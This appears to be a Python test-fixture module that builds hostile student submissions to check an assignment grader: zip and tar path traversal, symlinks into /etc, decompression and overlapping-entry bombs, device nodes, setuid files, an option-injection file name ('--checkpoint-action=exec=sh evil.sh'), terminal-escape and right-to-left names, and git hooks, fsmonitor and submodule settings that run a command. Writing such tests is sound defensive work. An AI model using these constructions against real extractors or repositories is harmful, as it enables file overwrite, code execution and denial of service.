"""Submissions that git cannot hold, because of how they are handed in: bombs, pipes, links, odd names, archives that lie.

Each public function writes one student's submission into the folder `into`, under `name` (and an ending, for an archive),
and gives the path of what it wrote. The submission is right in all but what the function's name says.
"""

from __future__ import annotations

import gzip
import io
import os
import socket
import stat
import struct
import tarfile
import zipfile
from pathlib import Path

from tests.hostile.making import EXERCISE, MARK, RIGHT, member, right, tarred, zipped

# ── 1–3: out of the archive ─────────────────────────────────────────────────────────────


def zip_slip(into: Path, name: str) -> Path:
    return zipped(into, name, {"../../escaped-by-zip-slip": b"out"})


def zip_absolute(into: Path, name: str) -> Path:
    return zipped(into, name, {MARK: b"out"})


def zip_drive_letter(into: Path, name: str) -> Path:
    return zipped(into, name, {"C:\\Windows\\evil.exe": b"out"})


def zip_backslashes(into: Path, name: str) -> Path:
    return zipped(into, name, {f"{EXERCISE}\\..\\..\\..\\escaped": b"out"})


def tar_slip(into: Path, name: str) -> Path:
    return tarred(into, name, [member("../../escaped-by-tar-slip")], ".tar.gz")


def tar_link_then_file(into: Path, name: str) -> Path:
    return tarred(
        into, name, [member(f"{EXERCISE}/x", tarfile.SYMTYPE, "/etc"), member(f"{EXERCISE}/x/cron.d/grader-hostile")]
    )


def tar_hard_link(into: Path, name: str) -> Path:
    links = [
        member(f"{EXERCISE}/a/b/link", tarfile.SYMTYPE, "../../../../../etc/passwd"),
        member(f"{EXERCISE}/hard", tarfile.LNKTYPE, f"{EXERCISE}/a/b/link"),
    ]
    return tarred(into, name, links)


# ── 4, 5: bombs ─────────────────────────────────────────────────────────────────────────


def zip_bomb(into: Path, name: str) -> Path:
    return zipped(into, name, {f"{EXERCISE}/zeros{number}": bytes(30 * 2**20) for number in range(5)})


def zip_overlapping(into: Path, name: str) -> Path:
    """Five hundred entries of the list that all point at one member of a MiB."""
    path = zipped(into, name, {f"{EXERCISE}/zeros": bytes(2**20)})
    content = path.read_bytes()
    start = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    last = content.rindex(b"PK\x01\x02", start, end)
    entries = [
        content[last:end].replace(b"zeros", f"{number:05}".encode()) for number in range(500)
    ]  # names of the same length
    listing = content[start:end] + b"".join(entries)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 503, 503, len(listing), start, 0)
    path.write_bytes(content[:start] + listing + tail)
    return path


def zip_lying_about_sizes(into: Path, name: str) -> Path:
    """A member of 100 MiB that says it has ten bytes."""
    path = zipped(into, name, {f"{EXERCISE}/zeros": bytes(100 * 2**20)})
    path.write_bytes(path.read_bytes().replace(struct.pack("<L", 100 * 2**20), struct.pack("<L", 10)))
    return path


def tar_gz_bomb(into: Path, name: str) -> Path:
    """Two hundred MiB of zeros."""
    path = into / f"{name}.tar.gz"
    info = tarfile.TarInfo(f"{EXERCISE}/zeros")
    info.size = 200 * 2**20
    with gzip.open(path, "wb", compresslevel=1) as packed:
        packed.write(info.tobuf(tarfile.GNU_FORMAT))
        for _ in range(200):
            packed.write(bytes(2**20))
    return path


def zip_of_many_files(into: Path, name: str) -> Path:
    return zipped(into, name, {f"{EXERCISE}/{number:0180}": b"" for number in range(18_000)})


def folder_of_many_files(into: Path, name: str) -> Path:
    target = right(into, name)
    for number in range(2100):
        (target / f"{number:06}").touch()
    return into / name


# ── 6–8: paths, kinds and names ─────────────────────────────────────────────────────────


def deep_folder(into: Path, name: str) -> Path:
    """Fifteen hundred folders within each other, made one by one: their path is longer than the kernel takes."""
    here = os.open(right(into, name), os.O_DIRECTORY)
    for _ in range(1500):
        os.mkdir("deep", dir_fd=here)
        below = os.open("deep", os.O_DIRECTORY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    return into / name


def deep_tar(into: Path, name: str) -> Path:
    return tarred(into, name, [member(f"{EXERCISE}/{'d/' * 1500}file")])


def long_path(into: Path, name: str) -> Path:
    return tarred(into, name, [member(f"{EXERCISE}/{'long-name' * 20}/" + "x" * 4200)])


def a_pipe(into: Path, name: str) -> Path:
    os.mkfifo(right(into, name) / "pipe")
    return into / name


def a_socket(into: Path, name: str) -> Path:
    target = right(into, name)
    here = os.open(target, os.O_DIRECTORY)
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(f"/proc/self/fd/{here}/socket")  # a path that is short enough for a socket
    os.close(here)
    return into / name


def a_device(into: Path, name: str) -> Path:
    """/dev/zero, in a tar: to make one on this machine takes rights."""
    info = member(f"{EXERCISE}/zero", tarfile.CHRTYPE)
    info.devmajor, info.devminor = 1, 5
    return tarred(into, name, [info])


def a_device_on_disk(into: Path, name: str) -> Path:
    """/dev/zero as a file of the folder, or, where this user may not make one, a pipe."""
    target = right(into, name)
    try:
        os.mknod(target / "zero", 0o644 | stat.S_IFCHR, os.makedev(1, 5))
    except PermissionError:
        os.mkfifo(target / "zero")
    return into / name


def set_user_id(into: Path, name: str) -> Path:
    target = right(into, name)
    (target / "sales_predictor.py").chmod(0o6755)
    return into / name


def holes(into: Path, name: str) -> Path:
    with (right(into, name) / "holes").open("wb") as file:
        file.truncate(2**40)
    return into / name


def tar_with_holes(into: Path, name: str) -> Path:
    return tarred(into, name, [member(f"{EXERCISE}/holes", tarfile.GNUTYPE_SPARSE)])


def named(into: Path, name: str, file: bytes) -> Path:
    """A right submission with one more file, of that name."""
    (Path(os.fsdecode(bytes(right(into, name)) + b"/" + file))).write_bytes(b"x\n")
    return into / name


def name_in_latin_1(into: Path, name: str) -> Path:
    return named(into, name, b"gr\xfc\xdfe.txt")


def name_with_a_line_break(into: Path, name: str) -> Path:
    return named(into, name, b"one\ntwo.txt")


def name_like_an_option(into: Path, name: str) -> Path:
    return named(into, name, b"--checkpoint-action=exec=sh evil.sh")


def name_that_steers_a_terminal(into: Path, name: str) -> Path:
    return named(into, name, b"\x1b]0;owned\x07\x1b[2J.txt")


def name_that_turns_around(into: Path, name: str) -> Path:
    return named(into, name, "Dockerfile-\u202etxt.exe".encode())


def name_of_255_bytes(into: Path, name: str) -> Path:
    return named(into, name, b"n" * 255)


def name_of_a_device(into: Path, name: str) -> Path:
    return named(into, name, b"CON")


def names_in_two_cases(into: Path, name: str) -> Path:
    return named(into, name, b"dockerfile")


def dockerfiles_that_clash_in_a_zip(into: Path, name: str) -> Path:
    """Two members of one name: which one counts depends on who unpacks."""
    path = zipped(into, name, {})
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(f"{EXERCISE}/./Dockerfile", "FROM registry.invalid/evil\n")
    return path


def name_with_a_zero_byte(into: Path, name: str) -> Path:
    """Written as another name of the same length, in the member's own head and in the list at the end."""
    path = zipped(into, name, {f"{EXERCISE}/notes.txt~.py": b"x\n"})
    path.write_bytes(path.read_bytes().replace(b"notes.txt~.py", b"notes.txt\0.py"))
    return path


# ── 9–13: archives, git, links ──────────────────────────────────────────────────────────


def nested_archives(into: Path, name: str) -> Path:
    content = b"".join(text.encode() for text in RIGHT.values())
    for level in range(10):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(f"level{level}.zip", content)
        content = buffer.getvalue()
    (into / f"{name}.zip").write_bytes(content)
    return into / f"{name}.zip"


def encrypted(into: Path, name: str) -> Path:
    path = zipped(into, name, {})
    content = bytearray(path.read_bytes())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    path.write_bytes(content)
    return path


def corrupt(into: Path, name: str) -> Path:
    path = zipped(into, name, {f"{EXERCISE}/notes.txt": os.urandom(1000)})
    content = bytearray(path.read_bytes())
    for at in range(30, 400, 7):
        content[at] ^= 0x55
    path.write_bytes(content)
    return path


def cut_off(into: Path, name: str) -> Path:
    path = tarred(into, name, [], ".tar.gz")
    path.write_bytes(path.read_bytes()[:150])
    return path


def zip_and_tar_in_one(into: Path, name: str) -> Path:
    """A file that is a wrong tar from its start and a right zip from its end; its name says zip, and so it is read."""
    right_one = zipped(into, name, {})
    wrong = io.BytesIO()
    with tarfile.open(fileobj=wrong, mode="w") as archive:
        archive.addfile(member(f"{EXERCISE}/Dockerfile"))
    right_one.write_bytes(wrong.getvalue() + right_one.read_bytes())
    return right_one


def empty_archive(into: Path, name: str) -> Path:
    (into / f"{name}.zip").touch()
    return into / f"{name}.zip"


def unknown_archive(into: Path, name: str) -> Path:
    (into / f"{name}.rar").write_bytes(b"Rar!\x1a\x07\x00")
    return into / f"{name}.rar"


def zip_without_rights(into: Path, name: str) -> Path:
    """Members that nobody may read, were they unpacked as they say."""
    path = into / f"{name}.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for file, text in RIGHT.items():
            info = zipfile.ZipInfo(f"{EXERCISE}/{file}")
            info.external_attr = stat.S_IFREG << 16
            archive.writestr(info, text)
    return path


def git_with_hooks(into: Path, name: str) -> Path:
    target = right(into, name)
    hook = f"#!/bin/sh\ntouch {MARK}\n"
    settings = f'[core]\n\tfsmonitor = "touch {MARK}"\n[filter "x"]\n\tsmudge = touch {MARK}\n'
    module = f'[submodule "x"]\n\tpath = x\n\turl = "ext::sh -c touch% {MARK}"\n\tupdate = !touch {MARK}\n'
    for file, text in {".git/config": settings, ".git/hooks/post-checkout": hook, ".git/HEAD": "ref: x\n"}.items():
        (target / file).parent.mkdir(parents=True, exist_ok=True)
        (target / file).write_text(text, encoding="utf-8")
        (target / file).chmod(0o755)
    (target / ".gitmodules").write_text(module, encoding="utf-8")
    (target / ".gitattributes").write_text("* filter=x\n", encoding="utf-8")
    return into / name


def submission_is_a_link(into: Path, name: str) -> Path:
    (into / name).symlink_to(into / "00-sibling")
    return into / name


def exercise_is_a_link(into: Path, name: str) -> Path:
    (into / name).mkdir()
    (into / name / EXERCISE).symlink_to(f"../00-sibling/{EXERCISE}")
    return into / name


def link_to_a_siblings_file(into: Path, name: str) -> Path:
    (right(into, name) / "notes.txt").symlink_to(f"../../00-sibling/{EXERCISE}/notes.txt")
    return into / name


def link_within_the_folder(into: Path, name: str) -> Path:
    (right(into, name) / "same.py").symlink_to("sales_predictor.py")
    return into / name
